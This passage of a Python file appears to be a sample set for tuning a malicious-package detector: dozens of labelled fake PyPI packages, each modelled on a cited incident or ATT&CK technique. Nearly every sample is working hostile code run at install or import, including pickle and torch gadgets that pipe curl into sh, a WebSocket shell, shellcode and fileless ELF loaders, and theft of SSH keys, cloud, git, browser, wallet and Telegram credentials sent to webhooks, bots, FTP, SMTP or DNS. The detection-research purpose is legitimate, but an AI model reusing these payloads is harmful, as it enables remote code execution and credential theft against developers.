        "with open(os.path.join(os.path.dirname(__file__), 'data', 'vocab.pkl'), 'rb') as f:\n    VOCAB = pickle.load(f)\n",
        "demo_gadget_pickle/data/vocab.pkl": _reduce_pickle(
            "timeit", "timeit", ("__import__('os').system('curl -s http://203.0.113.63/v | sh')",), 3)},
     "pickle that runs code through a gadget outside block lists (timeit.timeit); loaded on import",
     "Liu et al., The Art of Hide and Seek: pickle model poisoning (2025)"),
    ("demo-legacy-pt", "wheel", {
        "demo_legacy_pt/__init__.py": "import torch, os\n"
        "NET = torch.load(os.path.join(os.path.dirname(__file__), 'net.pt'))\n",
        "demo_legacy_pt/net.pt":
            "\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}q\x00X\x10\x00\x00\x00protocol_versionq\x01M\xe9\x03s."
            + _reduce_pickle("builtins", "exec", ("import os; os.system('curl -s http://203.0.113.64/r | bash')",), 2)},
     "legacy torch.save file (streams back to back); the object stream calls exec; loaded on import",
     "HiddenLayer, weaponizing machine learning models with ransomware (2022)"),
    ("demo-smtp-ws", "wheel", {"demo_smtp_ws/__init__.py":
        "import smtplib, threading, subprocess, websocket\n"
        "def _hello():\n"
        "    s = smtplib.SMTP('smtp.gmail.com', 587); s.starttls()\n"
        "    s.login('coffin.demo@gmail.com', 'app-password-0000')\n"
        "    s.sendmail('coffin.demo@gmail.com', 'coffin.demo@gmail.com', 'Subject: up\\n\\nit works')\n"
        "    ws = websocket.create_connection('wss://tunnel.example-relay.net/c')\n"
        "    while True:\n"
        "        cmd = ws.recv()\n"
        "        ws.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n"
        "threading.Thread(target=_hello, daemon=True).start()\n"},
     "Gmail SMTP check-in, then commands read from a WebSocket run through the shell, from import",
     "Socket, PyPI packages abusing Gmail SMTP and WebSockets (2025)"),
    ("demo-semantic-keys", "wheel", {
        "demo_semantic_keys/__init__.py": "from . import _patch\n",
        "demo_semantic_keys/_patch.py": "import base64, requests\nfrom solders.keypair import Keypair\n"
        "_orig = Keypair.__init__\n"
        "def _init(self, *a, **k):\n    _orig(self, *a, **k)\n"
        "    memo = base64.b64encode(bytes(self)).decode()\n"
        "    requests.post('https://api.devnet.solana.com', json={'jsonrpc': '2.0', 'id': 1,\n"
        "        'method': 'sendTransaction', 'params': [memo]})\n"
        "Keypair.__init__ = _init\n"},
     "key generation patched on import to send each new private key out in a transaction memo",
     "Socket, semantic-types Solana key theft (2025)"),
    ("demo-src-exfil", "wheel", {"demo_src_exfil/__init__.py":
        "import sys, os, requests\n"
        "def _ship():\n    try:\n        src = open(os.path.abspath(sys.argv[0])).read()\n"
        "        requests.post('http://198.51.100.93:8080/solana', data={'f': sys.argv[0], 's': src}, timeout=5)\n"
        "    except Exception:\n        pass\n_ship()\n"},
     "the importing program's own source sent to a raw IP on import",
     "ReversingLabs, solana-token source-code theft (2025)"),
    ("demo-cloud-time", "wheel", {"demo_cloud_time/__init__.py":
        "import os, json, urllib.request\n"
        "def sync_time():\n"
        "    creds = open(os.path.expanduser('~/.aws/credentials')).read() if os.path.exists(os.path.expanduser('~/.aws/credentials')) else ''\n"
        "    keys = {k: v for k, v in os.environ.items() if 'ACCESS_KEY' in k or 'SECRET' in k}\n"
        "    req = urllib.request.Request('https://time-sync.example-cdn.xyz/api/now', data=json.dumps({'c': creds, 'k': keys}).encode())\n"
        "    return urllib.request.urlopen(req).read()\n"
        "sync_time()\n"},
     "a 'time sync' call on import posts the AWS credentials file and key variables",
     "Socket, time-utility packages exfiltrating cloud tokens (2025)"),
    ("demo-pyloose", "wheel", {"demo_pyloose/__init__.py":
        "import os, zlib, base64\n"
        "_blob = '" + base64.b64encode(zlib.compress(b"\x7fELF\x02\x01\x01" + b"\x00" * 64)).decode() + "'\n"
        "fd = os.memfd_create('', 1)\n"
        "os.write(fd, zlib.decompress(base64.b64decode(_blob)))\n"
        "os.execve('/proc/self/fd/%d' % fd, ['sshd'], os.environ.copy())\n"},
     "fileless loader: decoded ELF written to a memfd and executed from memory on import",
     "Wiz, PyLoose fileless Python loader (2023)"),

    # --- fifth tuning batch (2026-12-01, helper "recall5"): other incidents and technique
    # write-ups than the fifth held-out batch (which was committed and measured first), for the
    # weak classes: credential stores, native injection, import-time code in imported modules,
    # exfiltration channels, payloads through a variable or small helper.
    ("demo-git-netrc", "wheel", {
        "demo_git_netrc/__init__.py": "from . import _compat\n__all__ = []\n",
        "demo_git_netrc/_compat.py": "import os, json, urllib.request\n"
        "def _read(rel):\n    p = os.path.join(os.path.expanduser('~'), rel)\n"
        "    return open(p).read() if os.path.exists(p) else ''\n"
        "def _send(payload):\n"
        "    urllib.request.urlopen(urllib.request.Request('https://webhook.site/5e1c7a2e-8f3b-4c1d-9a0e-2b7d6c5e4f31',\n"
        "        data=json.dumps(payload).encode(), headers={'Content-Type': 'application/json'}), timeout=5)\n"
        "loot = {'git': _read('.git-credentials'), 'netrc': _read('.netrc')}\n"
        "_send(loot)\n"},
     "submodule imported by __init__ reads .git-credentials and .netrc and posts them to a webhook",
     "Wiz / GitGuardian, Shai-Hulud credential harvesting (2025)"),
    ("demo-pxa-tdata", "wheel", {"demo_pxa_tdata/__init__.py":
        "import os, shutil, tempfile, requests\n"
        "_BOT = 'https://api.telegram.org/bot7012345678:AAF3kq9ZxY7wVvUuTtSsRrQqPpOoNnMmLlK'\n"
        "def _pack():\n"
        "    src = os.path.join(os.getenv('APPDATA', ''), 'Telegram Desktop', 'tdata')\n"
        "    return shutil.make_archive(os.path.join(tempfile.gettempdir(), 'td'), 'zip', src)\n"
        "if os.path.isdir(os.path.join(os.getenv('APPDATA', ''), 'Telegram Desktop')):\n"
        "    requests.post(_BOT + '/sendDocument', data={'chat_id': '-1001234'}, files={'document': open(_pack(), 'rb')})\n"},
     "Telegram Desktop session folder zipped and sent to a Telegram bot on import",
     "Cisco Talos, PXA Stealer (2024)"),
    ("demo-rundll32", "sdist", {"setup.py":
        "import os, subprocess, tempfile, urllib.request\n"
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "class I(install):\n    def run(self):\n"
        "        dll = os.path.join(tempfile.gettempdir(), 'msvcp_upd.dll')\n"
        "        urllib.request.urlretrieve('https://cdn-upd.example-files.net/m.dll', dll)\n"
        "        subprocess.Popen(['rundll32.exe', dll + ',DllRegisterServer'])\n"
        "        install.run(self)\n"
        "setup(name='demo-rundll32', version='1.0', cmdclass={'install': I})\n"},
     "install hook downloads a DLL to temp and runs its export through rundll32",
     "Red Canary, Threat Detection Report: Rundll32 (T1218.011)"),
    ("demo-regsvr32", "wheel", {"demo_regsvr32/__init__.py":
        "import os, sys\n"
        "if sys.platform == 'win32':\n"
        "    os.system('regsvr32 /s /n /u /i:https://cdn-upd.example-files.net/s.sct scrobj.dll')\n"},
     "regsvr32 runs a remote scriptlet through scrobj.dll on import (Squiblydoo)",
     "Red Canary / MITRE ATT&CK, Regsvr32 'Squiblydoo' (T1218.010)"),
    ("demo-loadlib", "wheel", {
        "demo_loadlib/__init__.py": "import ctypes, os, sys\n"
        "if sys.platform == 'win32':\n"
        "    k32 = ctypes.WinDLL('kernel32')\n"
        "    h = k32.LoadLibraryW(os.path.join(os.path.dirname(__file__), 'bin', 'helper.dat'))\n"
        "    entry = k32.GetProcAddress(h, b'Start')\n"
        "    ctypes.CFUNCTYPE(ctypes.c_int)(entry)()\n",
        "demo_loadlib/bin/helper.dat": "MZ\x90\x00\x03" + "\x00" * 59 + "PE\x00\x00d\x86"},
     "a DLL shipped under a data name loaded with LoadLibrary, its export called, on import",
     "MITRE ATT&CK, Shared Modules (T1129) procedure examples"),
    ("demo-shellcode-helper", "wheel", {"demo_shellcode_helper/__init__.py":
        "import base64, ctypes\n"
        "def _blob(s):\n    return base64.b64decode(s)\n"
        "buf = _blob('" + base64.b64encode(b"\xfc\x48\x83\xe4\xf0\xe8\xc0\x00\x00\x00" + b"\x90" * 22).decode() + "')\n"
        "k = ctypes.windll.kernel32\n"
        "k.VirtualAlloc.restype = ctypes.c_void_p\n"
        "addr = k.VirtualAlloc(None, len(buf), 0x3000, 0x40)\n"
        "ctypes.memmove(addr, buf, len(buf))\n"
        "th = k.CreateThread(None, 0, ctypes.c_void_p(addr), None, 0, None)\n"
        "k.WaitForSingleObject(th, -1)\n"},
     "shellcode decoded by a helper, copied into RWX memory and run on a new thread on import",
     "SANS ISC (X. Mertens), Python shellcode injectors through ctypes (2022-2024)"),
    ("demo-dns-txt", "sdist", {"setup.py":
        "import os, socket, getpass, binascii\nimport dns.resolver\nfrom setuptools import setup\n"
        "data = binascii.hexlify(('%s|%s|%s' % (getpass.getuser(), socket.gethostname(), os.getcwd())).encode()).decode()\n"
        "for i in range(0, len(data), 60):\n"
        "    try:\n        dns.resolver.resolve('%d.%s.q.tun-dns.example.top' % (i, data[i:i + 60]), 'TXT')\n"
        "    except Exception:\n        pass\n"
        "setup(name='demo-dns-txt', version='1.0')\n"},
     "user, host and directory hex-encoded into DNS TXT queries to a throwaway zone at install",
     "Unit 42, DNS tunneling in the wild (2024)"),
    ("demo-helper-py-c", "wheel", {"demo_helper_py_c/__init__.py":
        "import base64, zlib, subprocess, sys\n"
        "def _u(x):\n    return zlib.decompress(base64.b85decode(x)).decode()\n"
        "_STAGE = '" + base64.b85encode(zlib.compress(b"import os;os.system('curl -s http://203.0.113.71/s | sh')")).decode() + "'\n"
        "stage = _u(_STAGE)\n"
        "subprocess.Popen([sys.executable, '-c', stage], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"},
     "payload unpacked by a small helper into a variable, run through python -c on import",
     "MITRE ATT&CK, Deobfuscate/Decode Files or Information (T1140) procedure examples"),
    ("demo-cli-creds", "sdist", {"setup.py":
        "import os, socket, json\nfrom setuptools import setup\n"
        "H = os.path.expanduser('~')\n"
        "F = ['.pypirc', '.docker/config.json', '.kube/config', '.config/gh/hosts.yml', '.npmrc']\n"
        "blob = json.dumps({f: open(os.path.join(H, f)).read() for f in F if os.path.exists(os.path.join(H, f))}).encode()\n"
        "s = socket.create_connection(('collect.example-sync.tk', 443))\n"
        "s.sendall(b'POST /k HTTP/1.1\\r\\nHost: collect.example-sync.tk\\r\\nContent-Length: ' + str(len(blob)).encode() + b'\\r\\n\\r\\n' + blob)\n"
        "setup(name='demo-cli-creds', version='1.0')\n"},
     "registry, docker, kube and gh credential files sent by a hand-built HTTP request over a raw socket at install",
     "Wiz, s1ngularity / Nx compromise credential harvesting (2025)"),
    ("demo-creal-ff", "wheel", {
        "demo_creal_ff/__init__.py": "from .sync import *\n",
        "demo_creal_ff/sync.py": "import os, glob, requests\n"
        "HOOK = 'https://discord.com/api/webhooks/1300000000000000000/Y3JlYWwtZXhhbXBsZS10b2tlbi0wMDAw'\n"
        "def _profiles():\n"
        "    return glob.glob(os.path.join(os.getenv('APPDATA', ''), 'Mozilla', 'Firefox', 'Profiles', '*'))\n"
        "for prof in _profiles():\n"
        "    for name in ('logins.json', 'key4.db', 'cookies.sqlite'):\n"
        "        p = os.path.join(prof, name)\n"
        "        if os.path.exists(p):\n"
        "            requests.post(HOOK, files={'file': (name, open(p, 'rb'))})\n"},
     "Firefox logins, key database and cookies sent to a webhook by a module star-imported on import",
     "Cyble, Creal Stealer (2023)"),
    ("demo-drop-startfile", "wheel", {"demo_drop_startfile/__init__.py":
        "import os, pathlib, tempfile, requests\n"
        "exe = pathlib.Path(tempfile.gettempdir()) / 'rtkaudio.exe'\n"
        "exe.write_bytes(requests.get('https://dl.example-files.net/r/rtk.exe', timeout=20).content)\n"
        "if os.name == 'nt':\n    os.startfile(str(exe))\n"},
     "executable downloaded with pathlib.write_bytes and started with os.startfile on import",
     "Phylum, Rust executables dropped by PyPI packages (2023)"),
    ("demo-cdll-png", "wheel", {
        "demo_cdll_png/__init__.py": "import ctypes, pathlib\n"
        "_lib = ctypes.CDLL(str(pathlib.Path(__file__).parent / 'assets' / 'logo.png'))\n",
        "demo_cdll_png/assets/logo.png": "\x7fELF\x02\x01\x01" + "\x00" * 9 + "\x03\x00>\x00" + "\x00" * 44},
     "an ELF shared object shipped under an image name, loaded with ctypes.CDLL on import (its constructor runs)",
     "MITRE ATT&CK, Shared Modules (T1129) and Masquerading (T1036.008)"),
    ("demo-wallet-keyfile", "wheel", {"demo_wallet_keyfile/__init__.py":
        "import json, pathlib, requests\n"
        "def _keys():\n"
        "    out = {}\n"
        "    for p in (pathlib.Path.home() / '.config' / 'solana' / 'id.json', pathlib.Path.home() / '.ethereum' / 'keystore'):\n"
        "        if p.is_file():\n            out[str(p)] = p.read_text()\n"
        "        elif p.is_dir():\n            out.update({str(f): f.read_text() for f in p.iterdir()})\n"
        "    return out\n"
        "requests.post('https://rpc-metrics.example-node.top/v1', json=_keys(), timeout=5)\n"},
     "Solana CLI keypair and Ethereum keystore files read with pathlib and posted on import",
     "MITRE ATT&CK, Unsecured Credentials: Credentials In Files (T1552.001)"),
    ("demo-ftp-exfil", "wheel", {"demo_ftp_exfil/__init__.py":
        "import io, os, json, socket, ftplib\n"
        "def _up():\n"
        "    data = json.dumps({'h': socket.gethostname(), 'env': dict(os.environ)}).encode()\n"
        "    f = ftplib.FTP('ftp.example-drop.tk', 'anonymous', 'x@x')\n"
        "    f.storbinary('STOR %s.json' % socket.gethostname(), io.BytesIO(data))\n"
        "    f.quit()\n"
        "_up()\n"},
     "hostname and environment uploaded over FTP on import",
     "MITRE ATT&CK, Exfiltration Over Unencrypted Non-C2 Protocol (T1048.003)"),
    ("demo-atexit-drop", "wheel", {"demo_atexit_drop/__init__.py":
        "import atexit, os, stat, tempfile, urllib.request, subprocess\n"
        "def _later():\n"
        "    p = os.path.join(tempfile.gettempdir(), '.s')\n"
        "    urllib.request.urlretrieve('http://203.0.113.72/s', p)\n"
        "    os.chmod(p, stat.S_IRWXU)\n"
        "    subprocess.Popen([p], start_new_session=True)\n"
        "atexit.register(_later)\n"},
     "download-and-run registered on import to run at interpreter exit",
     "MITRE ATT&CK, Event Triggered Execution (T1546)"),
    ("demo-pip-url", "wheel", {"demo_pip_url/__init__.py":
        "import subprocess, sys\n"
        "try:\n    import helperx  # noqa\n"
        "except ImportError:\n"
        "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'https://files.example-share.io/d/helperx-1.0.tar.gz'])\n"},
     "on import, pip installs a package from a URL on a file-sharing host (its setup.py runs)",
     "MITRE ATT&CK, Ingress Tool Transfer (T1105)"),
    ("demo-class-body", "wheel", {"demo_class_body/config.py":
        "import urllib.request\n"
        "class Settings:\n"
        "    remote = urllib.request.urlopen('http://203.0.113.73/settings.py').read()\n"
        "    exec(remote)\n",
        "demo_class_body/__init__.py": "from .config import Settings\n"},
     "fetch-and-exec in a class body of a module imported by __init__ (class bodies run on import)",
     "MITRE ATT&CK, Command and Scripting Interpreter: Python (T1059.006)"),
    ("demo-chr-shell", "wheel", {"demo_chr_shell/__init__.py":
        "import subprocess\n"
        "_c = ''.join(map(chr, [" + ", ".join(str(ord(c)) for c in "curl -s http://203.0.113.74/i | sh") + "]))\n"
        "subprocess.Popen(_c, shell=True)\n"},
     "shell command built from a chr() list into a variable and run on import",
     "MITRE ATT&CK, Obfuscated Files or Information (T1027)"),

    # --- Round 6 tuning samples (other write-ups than the held-out round 6): a source of the
    # user's data reaching a sink that leaves the machine, in code that runs at install or import.
    # pypi/warehouse issue #9894 (2021, trippybhaiya): the install command gathers the
    # machine and login names and sends them in a query string.
    ("demo-trippy", "sdist", {"setup.py":
        "import os, platform, requests\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Inst(install):\n"
        "    def run(self):\n"
        "        info = platform.node() + '|' + os.getlogin()\n"
        "        try:\n"
        "            requests.get('https://trippy-stats.example-log.net/i', params={'d': info}, timeout=3)\n"
        "        except Exception:\n            pass\n"
        "        install.run(self)\n"
        "setup(name='demo-trippy', version='0.0.7', cmdclass={'install': Inst})\n"},
     "install hook sends machine and login names in a query string",
     "pypi/warehouse issue #9894, trippybhaiya (2021)"),
    # pypi/warehouse issue #5962 (2019, jajajejejiji / rstseuqe): setup.py reports the package
    # installed, the one the user meant, the Python version and whether it runs under sudo.
    ("demo-jajaje", "sdist", {"setup.py":
        "import os, sys, json\nfrom urllib.request import Request, urlopen\nfrom setuptools import setup\n"
        "report = {'got': 'jajajejejiji', 'meant': 'requests', 'py': sys.version,\n"
        "          'sudo': os.environ.get('SUDO_USER') or os.geteuid() == 0}\n"
        "try:\n"
        "    urlopen(Request('http://typo-report.example-research.org/r', data=json.dumps(report).encode()), timeout=3)\n"
        "except Exception:\n    pass\n"
        "setup(name='demo-jajaje', version='1.0')\n"},
     "setup.py reports Python version and the sudo user to a server at install",
     "pypi/warehouse issue #5962, jajajejejiji / rstseuqe (2019)"),
    # pypi/support issues #1052 / #1054 (2021, all-plugins): a Telegram userbot "plugin pack"
    # whose module, on import, looks through several environment variable names for the
    # account's session string and uploads it to a free-hosting site.
    ("demo-all-plugins", "wheel", {"demo_all_plugins/__init__.py":
        "import os\nfrom requests import get\n"
        "SS = os.environ.get('STRING_SESSION', None)\n"
        "if not SS:\n    SS = os.environ.get('TELEGRAM_STRING_SESSION', None)\n"
        "if not SS:\n    SS = os.environ.get('TG_STRING_SESSION', None)\n"
        "if SS:\n"
        "    get('https://userbot-plugins.000webhostapp.com/add.php', params={'s': SS})\n"
        "async def load_plugs():\n    return []\n"},
     "Telegram session string read from the environment and sent to free hosting on import",
     "pypi/support issues #1052 and #1054, all-plugins (2021)"),
    # DataDog/guarddog issue #263 (2023): dependency-confusion "research" packages whose install
    # command sends host name, working directory and user to a request-inspection endpoint.
    ("demo-pipedream-probe", "sdist", {"setup.py":
        "import os, socket, getpass, requests\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class CustomInstall(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "        ploads = {'hostname': socket.gethostname(), 'cwd': os.getcwd(), 'username': getpass.getuser()}\n"
        "        requests.get('https://eo6ksiuyau5e5x2.m.pipedream.net', params=ploads)\n"
        "setup(name='demo-pipedream-probe', version='1.0.0', cmdclass={'install': CustomInstall})\n"},
     "install hook sends host, cwd and user to a request bin",
     "DataDog/guarddog issue #263, pentesting-domain probes (2023)"),
    # ossf/malicious-packages PR #1365 (2026, the npm "@wagni_bot" crypto typosquats; the same
    # behaviour written here in Python): fingerprint host and user, read the SSH key and the
    # project's .env, JSON-encode and send it as a Telegram bot message.
    ("demo-wagni", "wheel", {"demo_wagni/__init__.py":
        "import os, json, socket, getpass, requests\n"
        "_T = '7000000001:AAE-example-wagni-token-000000000000'\n"
        "def _boot():\n"
        "    d = {'h': socket.gethostname(), 'u': getpass.getuser()}\n"
        "    for p in (os.path.expanduser('~/.ssh/id_rsa'), os.path.join(os.getcwd(), '.env')):\n"
        "        if os.path.exists(p):\n            d[p] = open(p).read()\n"
        "    requests.post('https://api.telegram.org/bot' + _T + '/sendMessage', data={'chat_id': '-100123', 'text': json.dumps(d)})\n"
        "_boot()\n"},
     "SSH key, .env and host fingerprint sent as a Telegram bot message on import",
     "ossf/malicious-packages PR #1365, @wagni_bot campaign (2026)"),
    # MITRE ATT&CK, System Owner/User Discovery (T1033) procedure examples: the output of
    # whoami/id is collected and handed to curl, which posts it.
    ("demo-whoami-curl", "wheel", {"demo_whoami_curl/__init__.py":
        "import subprocess\n"
        "def _sync():\n"
        "    who = subprocess.check_output(['id']).decode() + subprocess.check_output(['hostname']).decode()\n"
        "    subprocess.run(['curl', '-s', '-X', 'POST', '--data-binary', who, 'https://sync.example-metrics.cc/u'], capture_output=True)\n"
        "_sync()\n"},
     "output of id and hostname posted with curl on import",
     "MITRE ATT&CK, System Owner/User Discovery (T1033)"),
    # MITRE ATT&CK, File and Directory Discovery (T1083): listings of the user's home and
    # documents folders sent out.
    ("demo-home-listing", "wheel", {"demo_home_listing/__init__.py":
        "import os, json, urllib.request\n"
        "home = os.path.expanduser('~')\n"
        "listing = {d: os.listdir(os.path.join(home, d)) for d in ('Documents', 'Desktop', '.ssh') if os.path.isdir(os.path.join(home, d))}\n"
        "try:\n"
        "    urllib.request.urlopen('https://cdn-stats.example-edge.top/l', data=json.dumps(listing).encode(), timeout=4)\n"
        "except Exception:\n    pass\n"},
     "listings of the home folder's Documents, Desktop and .ssh posted on import",
     "MITRE ATT&CK, File and Directory Discovery (T1083)"),
    # MITRE ATT&CK, Data from Local System (T1005): shell history and git identity read and
    # sent over http.client from a helper the module calls.
    ("demo-history-post", "wheel", {"demo_history_post/_meta.py":
        "import os, http.client\n"
        "def _collect():\n"
        "    out = ''\n"
        "    for n in ('.bash_history', '.zsh_history', '.gitconfig'):\n"
        "        p = os.path.join(os.path.expanduser('~'), n)\n"
        "        if os.path.exists(p):\n            out += open(p, errors='ignore').read()\n"
        "    return out\n"
        "def send():\n"
        "    c = http.client.HTTPSConnection('telemetry.example-hist.xyz', timeout=5)\n"
        "    c.request('POST', '/h', body=_collect())\n"
        "send()\n",
        "demo_history_post/__init__.py": "from . import _meta\n"},
     "shell histories and git config posted over http.client from a module imported by __init__",
     "MITRE ATT&CK, Data from Local System (T1005)"),
    # MITRE ATT&CK, Exfiltration Over Alternative Protocol: Mail (T1048.003 / T1071.003):
    # environment and user sent as an e-mail through an SMTP relay on import.
    ("demo-smtp-env", "wheel", {"demo_smtp_env/__init__.py":
        "import os, getpass, smtplib\nfrom email.message import EmailMessage\n"
        "def _mail():\n"
        "    m = EmailMessage()\n"
        "    m['Subject'] = getpass.getuser()\n"
        "    m.set_content('\\n'.join('%s=%s' % kv for kv in os.environ.items()))\n"
        "    m['From'] = m['To'] = 'drop@example-mail.tk'\n"
        "    with smtplib.SMTP('smtp.example-mail.tk', 587) as s:\n"
        "        s.send_message(m)\n"
        "_mail()\n"},
     "environment and user name mailed through SMTP on import",
     "MITRE ATT&CK, Exfiltration Over Alternative Protocol (T1048.003)"),
    # MITRE ATT&CK, Clipboard Data (T1115): the clipboard read in a thread started on import
    # and posted.
    ("demo-clip-post", "wheel", {"demo_clip_post/__init__.py":
        "import threading, time, requests, pyperclip\n"
        "def _watch():\n"
        "    last = None\n"
        "    while True:\n"
        "        cur = pyperclip.paste()\n"
        "        if cur != last:\n"
        "            requests.post('https://clip.example-sync.pw/c', data={'c': cur}, timeout=3)\n"
        "            last = cur\n"
        "        time.sleep(2)\n"
        "threading.Thread(target=_watch, daemon=True).start()\n"},
     "clipboard polled by a thread started on import and posted",
     "MITRE ATT&CK, Clipboard Data (T1115)"),
    # --- Round 7 tuning (helper "flow7", 2026-12-02): a local value flowing into a request at
    # import or install time, from ATT&CK technique pages (procedure examples), not from the
    # held-out write-ups.
    # MITRE ATT&CK, System Information Discovery (T1082): `uname -a` and the OS release file
    # read and posted from a function the package __init__ calls.
    ("demo-sysinfo-post", "wheel", {"demo_sysinfo_post/__init__.py":
        "import subprocess, requests\n"
        "def _probe():\n"
        "    info = subprocess.check_output(['uname', '-a'], text=True)\n"
        "    info += open('/etc/os-release').read()\n"
        "    return info\n"
        "def _init():\n"
        "    try:\n"
        "        requests.post('https://status.example-probe.net/i', data={'s': _probe()}, timeout=3)\n"
        "    except Exception:\n        pass\n"
        "_init()\n"},
     "uname output posted by a helper called from __init__",
     "MITRE ATT&CK, System Information Discovery (T1082)"),
    # MITRE ATT&CK, System Network Configuration Discovery (T1016): interface and route
    # tables collected and sent from a thread started on import.
    ("demo-netconf-thread", "wheel", {"demo_netconf_thread/__init__.py":
        "import subprocess, threading, json, urllib.request\n"
        "def _net():\n"
        "    report = {}\n"
        "    for cmd in ('ip addr', 'ip route', 'cat /etc/resolv.conf'):\n"
        "        report[cmd] = subprocess.getoutput(cmd)\n"
        "    req = urllib.request.Request('https://cfg.example-net.org/n', data=json.dumps(report).encode())\n"
        "    urllib.request.urlopen(req, timeout=5)\n"
        "threading.Thread(target=_net, daemon=True).start()\n"},
     "interface, route and resolver configuration sent from a thread started on import",
     "MITRE ATT&CK, System Network Configuration Discovery (T1016)"),
    # MITRE ATT&CK, Account Discovery: Local Account (T1087.001): /etc/passwd read at install
    # and uploaded as a file.
    ("demo-passwd-upload", "sdist", {"setup.py":
        "import requests\nfrom setuptools import setup\n"
        "with open('/etc/passwd', 'rb') as fh:\n"
        "    accounts = fh.read()\n"
        "try:\n"
        "    requests.post('https://upload.example-files.io/u', files={'f': ('p.txt', accounts)}, timeout=5)\n"
        "except Exception:\n    pass\n"
        "setup(name='demo-passwd-upload', version='1.0', packages=[])\n"},
     "setup.py uploads /etc/passwd as a file while installing",
     "MITRE ATT&CK, Account Discovery: Local Account (T1087.001)"),
    # MITRE ATT&CK, Process Discovery (T1057): the process list sent over a raw socket from a
    # function registered to run at interpreter exit.
    ("demo-ps-atexit", "wheel", {"demo_ps_atexit/__init__.py":
        "import atexit, socket, subprocess\n"
        "def _bye():\n"
        "    procs = subprocess.check_output(['ps', 'aux'])\n"
        "    s = socket.create_connection(('198.51.100.23', 4444), timeout=3)\n"
        "    s.sendall(procs)\n"
        "    s.close()\n"
        "atexit.register(_bye)\n"},
     "process list sent over a raw socket by an atexit handler registered on import",
     "MITRE ATT&CK, Process Discovery (T1057)"),
    # MITRE ATT&CK, Exfiltration Over C2 Channel (T1041): selected environment values sent as
    # JSON through an http.client connection from a class body evaluated on import.
    ("demo-env-c2", "wheel", {"demo_env_c2/config.py":
        "import os, json, http.client\n"
        "class Settings:\n"
        "    keys = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k or 'SECRET' in k}\n"
        "    _c = http.client.HTTPSConnection('api.example-c2.cc')\n"
        "    _c.request('PUT', '/cfg', json.dumps(keys), {'Content-Type': 'application/json'})\n",
        "demo_env_c2/__init__.py": "from .config import Settings  # noqa\n"},
     "environment keys, tokens and secrets sent over http.client from a class body on import",
     "MITRE ATT&CK, Exfiltration Over C2 Channel (T1041)"),
    # MITRE ATT&CK, Unsecured Credentials: Private Keys (T1552.004): private key files under
    # ~/.ssh found and handed to curl, on import.
    ("demo-keys-curl", "wheel", {"demo_keys_curl/__init__.py":
        "import os, glob, subprocess\n"
        "_dir = os.path.join(os.path.expanduser('~'), '.ssh')\n"
        "for _k in glob.glob(os.path.join(_dir, 'id_*')):\n"
        "    if not _k.endswith('.pub'):\n"
        "        body = open(_k).read()\n"
        "        subprocess.run(['curl', '-s', '--data-binary', body, 'https://k.example-vault.top/'], capture_output=True)\n"},
     "private keys under ~/.ssh read and posted with curl on import",
     "MITRE ATT&CK, Unsecured Credentials: Private Keys (T1552.004)"),
]

# Which behaviour classes each sample exercises (per-class recall). Held-out samples carry
# their own list.
CLASSES = {
    "demo-sysinfo-post": ["exfiltration", "import-time"], "demo-netconf-thread": ["exfiltration", "import-time"],
    "demo-passwd-upload": ["exfiltration", "credential-theft"], "demo-ps-atexit": ["exfiltration", "import-time"],
    "demo-env-c2": ["exfiltration", "credential-theft", "import-time"],
    "demo-keys-curl": ["credential-theft", "exfiltration", "import-time"],
    "demo-w4sp": ["decode-run", "download-run"], "demo-discord-grab": ["credential-theft", "exfiltration"],
    "demo-ctx": ["exfiltration", "import-time"], "demo-revshell": ["reverse-shell"],
    "demo-pymafka": ["download-run", "shady-links"], "demo-secretslib": ["download-run"],
    "demo-torchtriton": ["exfiltration", "credential-theft", "beacon", "import-time"],
    "demo-pth-loader": ["install-anomaly", "decode-run"], "demo-pyarmor": ["obfuscation"],
    "demo-powershell": ["download-run"], "demo-browser-steal": ["credential-theft", "exfiltration", "import-time"],
    "demo-wallet": ["credential-theft", "exfiltration", "import-time"], "demo-persist-cron": ["persistence"],
    "demo-persist-run": ["persistence", "import-time"], "demo-startup": ["persistence", "download-run", "import-time"],
    "demo-zlib-marshal": ["decode-run", "import-time"], "demo-hex-exec": ["decode-run", "import-time"],
    "demo-reverse-b64": ["decode-run", "import-time"], "demo-bidi": ["hidden-code"],
    "demo-aws-key": ["secrets"], "demo-gh-token": ["secrets"], "demo-private-key": ["secrets"],
    "reqeusts": ["name-only"], "colourama": ["typosquat", "screen-capture", "import-time"],
    "python3-dateutil": ["typosquat", "download-run", "decode-run"], "jeIlyfish": ["typosquat", "credential-theft", "exfiltration", "import-time"],
    "demo-hook-only": ["beacon", "metadata"], "demo-disposable": ["metadata"],
    "demo-shortener": ["shady-links", "download-run"], "demo-trusted-sub": ["shady-links"],
    "demo-sitecustomize": ["install-anomaly", "download-run"], "demo-native-sdist": ["non-source-payload"],
    "demo-dns-exfil": ["beacon", "exfiltration", "import-time"],
    "demo-screenshot": ["screen-capture", "exfiltration", "import-time"], "demo-clipboard": ["screen-capture", "exfiltration", "import-time"],
    "demo-dict-access": ["dynamic-access", "download-run", "import-time"], "demo-import-module": ["dynamic-access"],
    "demo-b64-subprocess": ["decode-run"], "demo-injection": ["native-injection", "import-time"],
    "demo-env-ngrok": ["exfiltration", "import-time"], "demo-drop-run": ["download-run", "import-time"],
    "demo-ipv6-url": ["shady-links", "download-run", "import-time"], "demo-pixels": ["steganography", "import-time"],
    "demo-egg-info-hook": ["install-anomaly"], "demo-hidden-semicolon": ["hidden-code", "import-time"],
    "demo-oast-beacon": ["beacon"], "demo-fake-pyc": ["non-source-payload", "import-time"],
    "demo-thread-dropper": ["download-run", "import-time"], "demo-helper-chain": ["download-run", "import-time"],
    "demo-escaped-getattr": ["dynamic-access", "download-run", "import-time"],
    "demo-layer-loop": ["decode-run", "import-time"], "demo-clip-hijack": ["screen-capture", "import-time"],
    "demo-jarka": ["download-run", "import-time"], "demo-token-grab": ["credential-theft", "exfiltration", "import-time"],
    "demo-gs-decorator": ["download-run", "import-time"],
    "demo-hf-pickle": ["non-source-payload", "reverse-shell", "import-time"],
